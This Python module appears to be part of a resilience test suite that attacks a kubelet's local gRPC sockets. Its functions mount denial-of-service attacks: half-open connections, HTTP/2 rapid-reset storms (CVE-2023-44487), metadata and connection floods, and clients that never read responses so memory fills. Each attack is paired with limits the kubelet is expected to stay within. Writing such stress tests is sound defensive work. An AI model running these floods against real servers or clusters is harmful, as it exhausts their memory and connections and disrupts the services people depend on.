"""Attack with gRPC connections: half-open ones, resets, too many connections, too many calls.

The last attacks are clients that send requests and do not read responses. Of the kubelet's
services, only PodResources has large responses without a hostile plugin.
"""

from __future__ import annotations

import contextlib
import itertools
import time
from concurrent.futures import ThreadPoolExecutor
from functools import partial
from pathlib import Path

import attrs
import grpc

from podresources.accepted import PATIENCE
from protos import deviceplugin_v1beta1 as dp
from protos import deviceplugin_v1beta1_grpc as dp_grpc
from tools.attack import http2
from tools.attack.beside import beside
from tools.attack.model import Limits, Target
from tools.attack.plugins import channel

_REGISTER = "/v1beta1.Registration/Register"
_LIST = "/v1.PodResourcesLister/List"
_HALF = 400
_CLIENTS = 1000
_FLOOD = 3000
_BAD_VERSION = dp.RegisterRequest(version="none", resource_name="a.b/c").SerializeToString()


def _sockets(target: Target) -> tuple[tuple[Path, str], ...]:
    return (target.registration, _REGISTER), (target.pod_resources, _LIST)


@beside(
    "half-open",
    f"{_HALF} connections to each socket that stop in the middle of their first bytes",
    Limits(descriptors=2 * _HALF + 100),
)
def _half_open(target: Target) -> None:
    with contextlib.ExitStack() as stack:
        for path, _ in _sockets(target):
            for number in range(_HALF):
                # Each connection sends a different length, because a reader can block at any byte.
                first = (http2.PREFACE + http2.settings())[: 1 + number % 30]
                stack.enter_context(http2.connect(path, first))
        time.sleep(5)


@beside(
    "rst-storm", "400,000 calls that are cancelled at once", Limits(registration=100.0, kept=100.0)
)
def _rst_storm(target: Target) -> None:
    # HTTP/2 rapid reset (CVE-2023-44487): a call costs the client almost nothing.
    for path, method in _sockets(target):
        for _ in range(20):
            with contextlib.suppress(OSError):
                _cancelled_calls(path, method)


def _cancelled_calls(path: Path, method: str) -> None:
    with http2.connect(path, http2.PREFACE + http2.settings()) as connection:
        for start in range(1, 20_000, 1000):
            calls = (
                http2.request_headers(stream, method)
                + http2.frame(http2.RST_STREAM, stream, http2.CANCEL)
                for stream in range(start, start + 1000, 2)
            )
            connection.sendall(b"".join(calls))


@beside("metadata-flood", "1,000 calls with 1 MB of metadata")
def _metadata(target: Target) -> None:
    # The server closes each connection because of the metadata, so every call opens a new one.
    metadata = tuple((f"key-{number}", "x" * 1000) for number in range(1000))

    def one(_: int) -> None:
        with contextlib.suppress(grpc.RpcError), channel(target) as connection:
            request = dp.RegisterRequest(version="none")
            dp_grpc.RegistrationStub(connection).Register(request, timeout=5, metadata=metadata)

    with ThreadPoolExecutor(4) as pool:
        list(pool.map(one, range(1000)))


@beside(
    "clients-1000",
    f"{_CLIENTS} clients that stay connected, with 3 calls each",
    # gRPC handles calls in their order. Each of the 3,000 costs 0.4 ms of CPU time, nearly all of
    # it in gRPC, and a good registration waits for those before it.
    Limits(registration=100.0, kept=100.0, descriptors=_CLIENTS + 100),
)
def _clients(target: Target) -> None:
    first = http2.PREFACE + http2.settings() + http2.call(1, _REGISTER, _BAD_VERSION)
    with http2.connections(target.registration, _CLIENTS, first) as connections:
        for stream in (3, 5):
            for connection in connections:
                connection.sendall(http2.call(stream, _REGISTER, _BAD_VERSION))
        time.sleep(5)


@beside(
    "connections-flood",
    f"{_FLOOD} connections to each socket that send only the preface, five times",
    # The client opens the connections of the next round while the kubelet closes those of the last.
    Limits(memory=250.0, kept=250.0, descriptors=2 * 2 * _FLOOD + 100),
)
def _flood(target: Target) -> None:
    first = http2.PREFACE + http2.settings()
    for _ in range(5):
        with (
            http2.connections(target.registration, _FLOOD, first, may_fail=True),
            http2.connections(target.pod_resources, _FLOOD, first, may_fail=True),
        ):
            time.sleep(1)


@beside("garbage", "400 connections that do not use HTTP/2", Limits(descriptors=30))
def _garbage(target: Target) -> None:
    for path, _ in _sockets(target):
        http2.send_garbage(path)


_READERS, _CALLS = 60, 20
_METHODS = ("/v1.PodResourcesLister/GetAllocatableResources", "/v1.PodResourcesLister/List")
_DEVICES, _ID_LENGTH = 10_000, 100
# The kubelet stores up to 64 MiB of unread responses, and a few more while it computes them.
_UNREAD_LIMITS = Limits(memory=250.0, kept=150.0, descriptors=_READERS + 100)
_LARGE_RESPONSES = {"devices": _DEVICES, "id_length": _ID_LENGTH}


def _calls(first: int) -> bytes:
    streams = range(first, first + 2 * _CALLS, 2)
    return b"".join(http2.call(stream, _METHODS[0]) for stream in streams)


def _unread(target: Target, window: bytes) -> None:
    first = http2.PREFACE + window + _calls(1)
    last = http2.PREFACE + http2.widest_window() + http2.call(1, _METHODS[0])
    with (
        http2.connections(target.pod_resources, _READERS, first),
        http2.connect(target.pod_resources, last) as connection,
    ):
        # Calls are handled in order, so the kubelet has responded to the others before.
        connection.settimeout(None)
        http2.wait_for_end(connection)
        time.sleep(2 * PATIENCE)


@beside(
    "list-flood-clients",
    f"{_READERS} clients that call as fast as they can, ignoring the rate limit",
    _UNREAD_LIMITS,
    **_LARGE_RESPONSES,
)
def _call_fast(target: Target) -> None:
    first = http2.PREFACE + http2.settings()
    with http2.connections(target.pod_resources, _READERS, first) as connections:
        end = time.monotonic() + 6
        for turn in range(10_000):
            for connection in connections:
                # Discard responses, so that the kubelet can always send the next one.
                connection.setblocking(False)
                with contextlib.suppress(OSError):
                    while connection.recv(1 << 20):
                        continue
                connection.setblocking(True)
                connection.sendall(http2.call(2 * turn + 1, _METHODS[turn % 2]))
            if time.monotonic() > end:
                return


beside(
    "list-unread",
    f"{_READERS} clients x {_CALLS} calls for 1.1 MB, with a flow control window of 0",
    _UNREAD_LIMITS,
    settings={"pod_resources_qps": None},
    **_LARGE_RESPONSES,
)(partial(_unread, window=http2.settings(window=0)))
beside(
    "list-unread-socket",
    f"{_READERS} clients x {_CALLS} calls for 1.1 MB, with full sockets",
    _UNREAD_LIMITS,
    settings={"pod_resources_qps": None},
    **_LARGE_RESPONSES,
)(partial(_unread, window=http2.settings(window=http2.MOST_WINDOW)))


_ROUNDS, _OPENED = 10, 30


@beside(
    "list-unread-forever",
    f"{_ROUNDS * _OPENED} clients x 2 calls for 1.1 MB, with the widest window",
    attrs.evolve(_UNREAD_LIMITS, descriptors=_ROUNDS * _OPENED + 100),
    settings={"pod_resources_qps": None},
    **_LARGE_RESPONSES,
)
def _unread_forever(target: Target) -> None:
    one = http2.PREFACE + http2.widest_window() + http2.call(1, _METHODS[0])
    two = one + http2.call(3, _METHODS[0])
    with contextlib.ExitStack() as stack:
        for _ in range(_ROUNDS):
            stack.enter_context(http2.connections(target.pod_resources, _OPENED, two))
            with http2.connect(target.pod_resources, one) as connection:
                connection.settimeout(None)
                http2.wait_for_end(connection)
            # Then the kubelet cancels these calls when it needs the room. gRPC still stores the
            # responses of cancelled calls, until their clients are disconnected.
            time.sleep(2 * PATIENCE)


_SECONDS, _PAUSE = 20.0, 0.3
_AT_ONCE = 12
"""Calls that each client sends before a pause. If a client sends more than 16 at once, gRPC rejects
them before they need memory."""


@beside(
    "register-unread",
    f"{_READERS} clients that call Register all the time, and do not read",
    attrs.evolve(_UNREAD_LIMITS, memory=150.0),
)
def _register_unread(target: Target) -> None:
    # gRPC rejects further calls of a client that does not acknowledge its settings.
    first = http2.PREFACE + http2.widest_window() + http2.frame(http2.SETTINGS, 0, flags=http2.ACK)
    with http2.connections(target.registration, _READERS, first) as connections:
        connected, end = set(connections), time.monotonic() + _SECONDS
        # The kubelet disconnects all clients. If it does not, this is enough to fill the memory.
        for turn in itertools.count():
            if not connected or time.monotonic() > end:
                return
            streams = range(2 * _AT_ONCE * turn + 1, 2 * _AT_ONCE * (turn + 1), 2)
            calls = b"".join(http2.call(stream, _REGISTER, _BAD_VERSION) for stream in streams)
            for connection in list(connected):
                try:
                    connection.sendall(calls)
                except OSError:  # disconnected
                    connected.discard(connection)
            time.sleep(_PAUSE)
